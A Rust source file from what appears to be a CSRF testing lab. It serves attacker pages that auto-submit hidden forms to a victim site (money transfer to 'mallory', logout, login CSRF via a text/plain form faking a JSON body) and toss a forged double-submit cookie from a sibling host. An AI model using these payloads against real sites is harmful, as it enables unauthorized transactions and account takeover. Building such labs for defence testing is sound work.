//! Requests that the attacker's pages make the visitor's browser send.

use std::sync::Arc;

use axum::{
    extract::{Query, State},
    http::StatusCode,
    response::{Html, IntoResponse, Response},
};
use lab_types::{Guard, Place, Source, Strategy, Threat, Vector};
use serde::Deserialize;
use serde_json::json;

use super::Doors;
use crate::{
    Lab,
    guarded::{self, MADE_UP},
    plan,
    recorder::Of,
    runs::Person,
};

const UNSEEN: &str = include_str!("../assets/attacks/unseen.js");

#[derive(Debug, Deserialize)]
pub struct At {
    at: usize,
}

#[derive(Debug, Deserialize)]
pub struct From {
    source: Source,
}

/// A page of the attacker that submits a form, or follows a link, as soon as it is loaded.
pub async fn navigation(
    State(lab): State<Arc<Lab>>,
    Query(of): Query<Of>,
    Query(At { at }): Query<At>,
) -> Response {
    let (Some(run), Some(cell)) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let victim = &lab.sites.victim;
    let host = victim.host().to_string();
    let query = format!("run={}&cell={cell}&at={at}", run.id);
    let markup = match cell {
        Place::Storage { strategy, threat } => {
            let attacker = run.people.attacker(strategy);
            storage_form(threat, strategy, victim.as_str(), &query, &attacker)
        }
        Place::Forgery {
            guard,
            source,
            vector,
        } => navigating(guard, vector, victim.as_str(), &query).map(|markup| {
            match toss(guard, source, &host) {
                Some(script) => format!("<script>{script}</script>{markup}"),
                None => markup,
            }
        }),
        Place::Script { .. } | Place::Race { .. } => None,
    };
    match markup {
        Some(markup) => page(
            "The attacker’s page sends the visitor to the victim’s site.",
            &markup,
        ),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

/// A page that sends everything that works in the background, and then returns to the runner.
pub async fn unseen(
    State(lab): State<Arc<Lab>>,
    Query(of): Query<Of>,
    Query(At { at }): Query<At>,
    Query(From { source }): Query<From>,
) -> Response {
    let Some(run) = of.run(&lab) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let victim = &lab.sites.victim;
    let requests = plan::unseen().map(|(guard, vector)| {
        let cell = Place::Forgery {
            guard,
            source,
            vector,
        };
        let query = format!("run={}&cell={cell}", run.id);
        json!({ "vector": vector, "address": format!("{victim}{}?{query}", guarded::door(guard)) })
    });
    let orders = json!({
        "requests": requests.collect::<Vec<_>>(),
        "body": body(),
        "next": format!("{victim}/play?run={}&at={}", run.id, at + 1),
    });
    let toss = toss(Guard::DoubleSubmit, source, &victim.host().to_string()).unwrap_or_default();
    page(
        "The attacker’s page sends requests in the background.",
        &format!("<script>{toss}\nconst orders = {orders};\n</script><script type=module>{UNSEEN}</script>"),
    )
}

fn page(says: &str, markup: &str) -> Response {
    Html(format!(
        "<!doctype html><meta charset=utf-8><title>Keyturn lab: the attacker’s page</title><p>{says}</p>{markup}"
    ))
    .into_response()
}

/// The code of a cell's forgery, for readers of the evidence.
pub fn code(place: Place) -> Option<String> {
    let (victim, query) = ("https://victim.example", "…");
    match place {
        Place::Storage { strategy, threat } => {
            let someone = Person {
                email: "mallory@…".into(),
                password: "…".into(),
            };
            storage_form(threat, strategy, victim, query, &someone)
        }
        Place::Forgery {
            guard,
            source,
            vector,
        } => {
            let sent = navigating(guard, vector, victim, query).unwrap_or_else(|| {
                let (door, body) = (guarded::door(guard), body());
                format!("// {}: {victim}{door}, {body}\n{UNSEEN}", vector.slug())
            });
            let before = toss(guard, source, "victim.example");
            Some(before.map(|script| script + "\n").unwrap_or_default() + &sent)
        }
        Place::Script { .. } | Place::Race { .. } => None,
    }
}

/// A host below the victim's can set cookies for the victim's host as well. With a longer path than the genuine cookie
/// it is sent first, and most servers use the first cookie of a name.
fn toss(guard: Guard, source: Source, victim: &str) -> Option<String> {
    (guard == Guard::DoubleSubmit && source == Source::Sibling).then(|| {
        format!(
            "document.cookie = \"{}={MADE_UP}; Domain={victim}; Path={}; Secure; SameSite=None\";",
            guarded::DOUBLE,
            guarded::TOSSED_PATH
        )
    })
}

fn body() -> String {
    format!("amount=100&to=mallory&csrf={MADE_UP}")
}

fn field(name: &str, value: &str) -> String {
    format!("<input type=hidden name='{name}' value='{value}'>")
}

fn form(address: &str, enctype: &str, fields: &str) -> String {
    format!(
        "<form method=post enctype=\"{enctype}\" action=\"{address}\">{fields}</form>\
         <script>document.forms[0].submit()</script>"
    )
}

const URL_ENCODED: &str = "application/x-www-form-urlencoded";
const PLAIN: &str = "text/plain";

/// The markup that navigates the visitor; `None` for what happens in the background.
fn navigating(guard: Guard, vector: Vector, victim: &str, query: &str) -> Option<String> {
    let address = format!("{victim}{}?{query}", guarded::door(guard));
    let fields = field("amount", "100") + &field("to", "mallory") + &field("csrf", MADE_UP);
    match vector {
        Vector::Form => Some(form(&address, URL_ENCODED, &fields)),
        Vector::TextForm => Some(form(&address, PLAIN, &fields)),
        Vector::MultipartForm => Some(form(&address, "multipart/form-data", &fields)),
        Vector::Link => Some(format!(
            "<a href=\"{address}\">A fine picture</a><script>document.links[0].click()</script>"
        )),
        Vector::Fetch | Vector::Beacon | Vector::Image => None,
    }
}

/// The form of a threat, in the format that this strategy's server might accept.
fn storage_form(
    threat: Threat,
    strategy: Strategy,
    victim: &str,
    query: &str,
    attacker: &Person,
) -> Option<String> {
    let doors = Doors::of(strategy);
    let Person { email, password } = attacker;
    let (door, fields, enctype) = match threat {
        Threat::CsrfChange => (
            doors.transfer,
            field("amount", "100") + &field("to", "mallory"),
            URL_ENCODED,
        ),
        Threat::CsrfLogout => (doors.logout, String::new(), URL_ENCODED),
        // A server that expects JSON may accept a form whose body looks like JSON.
        Threat::CsrfLogin if strategy == Strategy::Keyturn => {
            let name = format!(r#"{{"email":"{email}","password":"{password}","remember":true,"x":""#);
            (doors.login, field(&name, r#""}"#), PLAIN)
        }
        Threat::CsrfLogin => (
            doors.login,
            field("email", email) + &field("password", password),
            URL_ENCODED,
        ),
        _ => return None,
    };
    Some(form(&format!("{victim}{door}?{query}"), enctype, &fields))
}

#[cfg(test)]
mod tests {
    use lab_types::Bench;

    use super::*;

    #[test]
    fn every_forgery_has_its_code_and_only_a_sibling_s_tosses_cookies() {
        for place in Bench::Forgery.rows().concat() {
            let code = code(place).expect("an attack");
            let tosses = matches!(
                place,
                Place::Forgery {
                    guard: Guard::DoubleSubmit,
                    source: Source::Sibling,
                    ..
                }
            );
            assert_eq!(code.contains("document.cookie"), tosses, "{place}");
        }
    }

    #[test]
    fn what_needs_no_page_of_its_own_is_sent_in_the_background() {
        for vector in Vector::ALL {
            let seen = navigating(Guard::None, *vector, "https://victim.example", "").is_some();
            assert_ne!(seen, plan::UNSEEN.contains(vector), "{}", vector.slug());
        }
    }
}
